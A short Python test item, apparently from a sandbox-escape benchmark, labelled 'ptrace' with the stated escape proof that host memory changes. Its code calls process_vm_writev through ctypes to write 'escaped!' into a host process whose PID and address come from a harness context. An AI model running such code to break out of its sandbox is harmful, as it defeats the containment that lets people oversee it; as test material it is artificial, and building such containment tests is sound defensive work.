# level: boundary
# category: ptrace
# escape proof: the memory of the host changes

import ctypes


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


given = ctypes.create_string_buffer(b"escaped!")
ours, theirs = Vector(ctypes.addressof(given), 8), Vector(CTX["host_address"], 8)
ctypes.CDLL(None).process_vm_writev(CTX["hostpid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
